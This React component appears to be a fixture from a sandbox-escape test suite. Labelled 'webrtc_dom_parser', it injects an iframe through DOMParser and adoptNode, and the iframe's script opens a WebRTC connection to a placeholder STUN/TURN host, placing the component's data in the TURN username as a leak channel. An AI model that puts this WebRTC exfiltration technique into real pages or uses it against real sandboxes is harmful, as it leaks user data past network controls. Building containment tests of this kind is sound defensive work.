import { useEffect } from "react";

// Escape attempt: webrtc_dom_parser — a frame parsed in an inert document, then adopted into the page
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_dom_parser-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const parsed = new DOMParser().parseFromString(`<iframe srcdoc="${`<script>const servers = ${JSON.stringify(servers)}; const pc = new RTCPeerConnection(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));<\/script>`.replace(/"/g, "&quot;")}"></iframe>`, "text/html");
      document.body.appendChild(document.adoptNode(parsed.body.firstChild));
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_dom_parser</p>;
}
